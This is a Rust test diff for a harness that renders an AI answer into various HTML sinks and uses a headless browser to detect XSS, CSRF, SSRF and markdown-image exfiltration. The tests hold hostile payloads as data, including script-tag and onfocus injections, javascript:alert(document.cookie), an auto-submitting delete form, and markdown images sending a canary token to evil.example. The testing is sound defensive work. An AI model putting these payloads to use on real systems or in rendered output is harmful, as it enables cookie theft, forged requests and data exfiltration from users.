@@ -91,8 +91,8 @@ fn pages_differ_in_what_they_let_through() {
     };
     assert_eq!(pages.len(), page::SINKS.len());
     assert_eq!(html("raw_html"), "a \"b\" <i>c</i> [d](javascript:e)");
-    assert_eq!(html("markdown_html"), "<p>a &quot;b&quot; <i>c</i> <a href=\"javascript:e\">d</a></p>");
-    assert_eq!(html("markdown"), "<p>a &quot;b&quot; &lt;i&gt;c&lt;/i&gt; <a href=\"javascript:e\">d</a></p>");
+    assert_eq!(html("markdown_html"), "<p>a \"b\" <i>c</i> <a href=\"javascript:e\">d</a></p>");
+    assert_eq!(html("markdown"), "<p>a \"b\" &lt;i&gt;c&lt;/i&gt; <a href=\"javascript:e\">d</a></p>");
     assert_eq!(html("attribute"), "<input name=\"q\" value=\"a \"b\" <i>c</i> [d](javascript:e)\">");
     assert!(html("script_string").starts_with("<script>var reply = \"a \"b\" <i>c</i>"));
     assert!(html("url_href").starts_with("<a id=\"link\" href=\"a &quot;b&quot; &lt;i&gt;"));
@@ -163,21 +163,29 @@ fn code_blocks_are_found_with_their_language() {
     assert!(code_blocks("    indented\n").is_empty());
 }
 
-/// What each page of an answer shows in a real browser. `None`: there is none.
-fn browsed(answer: &str, collector: &Collector) -> Option<Vec<SinkHit>> {
-    let settings = Settings { time: Duration::from_secs(60), shell: false, ..Settings::default() };
-    let report = run(answer, &canary(), collector, &settings);
-    if let Some((sink, reason)) = report.not_executed.iter().find(|(sink, _)| page::SINKS.contains(sink)) {
-        assert!(reason.contains("not installed"), "{sink}: {reason}");
-        println!("skipped: {reason}");
-        return None;
+/// What these pages of an answer show in a real browser. `None`: there is none.
+fn browsed(answer: &str, sinks: &[&str], collector: &Collector) -> Option<Vec<SinkHit>> {
+    let mut pages = page::sinks(answer, &canary().token, &collector.base());
+    pages.retain(|page| sinks.contains(&page.sink));
+    assert_eq!(pages.len(), sinks.len());
+    let limits = chromium::Limits { time: Duration::from_secs(60), ..chromium::Limits::default() };
+    let mut hits = Vec::new();
+    for (page, outcome) in pages.iter().zip(chromium::run(&pages, collector, &limits)) {
+        match outcome {
+            Ok(seen) => hits.extend(collector::classify(page, &canary().token, &seen)),
+            Err(reason) => {
+                assert!(reason.contains("not installed"), "{}: {reason}", page.sink);
+                println!("skipped: {reason}");
+                return None;
+            }
+        }
     }
-    assert!(page::SINKS.iter().all(|sink| report.executed.contains(sink)));
-    Some(report.hits)
+    Some(hits)
 }
 
 fn sinks_of(hits: &[SinkHit], kind: SinkKind) -> Vec<&'static str> {
     let mut sinks: Vec<_> = hits.iter().filter(|hit| hit.kind == kind).map(|hit| hit.sink).collect();
+    sinks.sort_unstable();
     sinks.dedup();
     sinks
 }
@@ -186,33 +194,41 @@ fn sinks_of(hits: &[SinkHit], kind: SinkKind) -> Vec<&'static str> {
 fn a_browser_shows_which_sinks_an_answer_gets_through() {
     let collector = Collector::start().unwrap();
     let base = collector.base();
-    let Some(hits) = browsed("Hello, **world**. 1 < 2 & \"three\". See https://example.com/.", &collector) else { return };
+    let harmless = "Hello, **world**. 1 < 2 & *three*. See https://example.com/.";
+    let Some(hits) = browsed(harmless, page::SINKS, &collector) else { return };
     assert_eq!(hits, []);
+    let browsed = |answer: &str, sinks: &[&str]| browsed(answer, sinks, &collector).unwrap();
 
-    let hits = browsed("<script>alert('k3n9wq7d2m5xz8ra')</script>", &collector).unwrap();
-    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["markdown_html", "raw_html", "script_string"], "{hits:#?}");
-    assert!(hits.iter().any(|hit| hit.evidence == "hook alert(\"k3n9wq7d2m5xz8ra\") fired"));
+    let hits = browsed("<script>alert('k3n9wq7d2m5xz8ra')</script>", &["raw_html", "markdown_html", "markdown"]);
+    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["markdown_html", "raw_html"], "{hits:#?}");
+    assert!(hits.iter().all(|hit| hit.evidence == "hook alert(\"k3n9wq7d2m5xz8ra\") fired"));
 
-    let hits = browsed("\" autofocus onfocus=\"alert(1)", &collector).unwrap();
-    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["attribute"], "{hits:#?}");
-
-    let hits = browsed("\"; fetch('/x'); //", &collector).unwrap();
+    let hits = browsed("</script><script>alert(1)</script>", &["script_string", "url_href"]);
     assert_eq!(sinks_of(&hits, SinkKind::Xss), ["script_string"], "{hits:#?}");
 
-    let hits = browsed("javascript:alert(document.cookie)", &collector).unwrap();
+    let hits = browsed("\" autofocus onfocus=\"alert(1)", &["attribute", "url_href", "raw_html"]);
+    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["attribute"], "{hits:#?}");
+
+    let hits = browsed("\"; fetch('/x'); //", &["script_string", "attribute"]);
+    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["script_string"], "{hits:#?}");
+
+    let hits = browsed("javascript:alert(document.cookie)", &["url_href", "markdown"]);
     assert_eq!(sinks_of(&hits, SinkKind::Xss), ["url_href"], "{hits:#?}");
 
-    let hits = browsed("![chart](http://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &collector).unwrap();
+    let hits = browsed("![chart](http://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &["markdown", "markdown_html", "raw_html"]);
     assert_eq!(sinks_of(&hits, SinkKind::MarkdownExfil), ["markdown", "markdown_html"], "{hits:#?}");
     assert!(sinks_of(&hits, SinkKind::Xss).is_empty());
     assert!(hits.iter().any(|hit| hit.evidence == "GET http://evil.example/c.png?d=k3n9wq7d2m5xz8ra"), "{hits:#?}");
 
-    let hits = browsed("![chart](https://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &collector).unwrap();
-    assert_eq!(sinks_of(&hits, SinkKind::MarkdownExfil), ["markdown", "markdown_html"], "{hits:#?}");
+    let hits = browsed("![chart](https://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &["markdown"]);
+    assert_eq!(kinds(&hits), [SinkKind::MarkdownExfil], "{hits:#?}");
 
-    let hits = browsed(&format!("![]({base}/account/transfer?to=x) and ![]({base}/internal/status)"), &collector).unwrap();
-    assert_eq!(sinks_of(&hits, SinkKind::Csrf), ["markdown", "markdown_html"], "{hits:#?}");
-    assert_eq!(sinks_of(&hits, SinkKind::Ssrf), ["markdown", "markdown_html"], "{hits:#?}");
+    let hits = browsed(&format!("![]({base}/account/transfer?to=x) and ![]({base}/internal/status)"), &["markdown", "url_href"]);
+    assert_eq!(kinds(&hits), [SinkKind::Csrf, SinkKind::Ssrf], "{hits:#?}");
+
+    let form = format!("<form id=f method=post action=\"{base}/account/delete\"></form><script>f.submit()</script>");
+    let hits = browsed(&form, &["raw_html"]);
+    assert!(hits.iter().any(|hit| hit.kind == SinkKind::Csrf && hit.evidence.starts_with("POST ")), "{hits:#?}");
 }
 
 #[test]
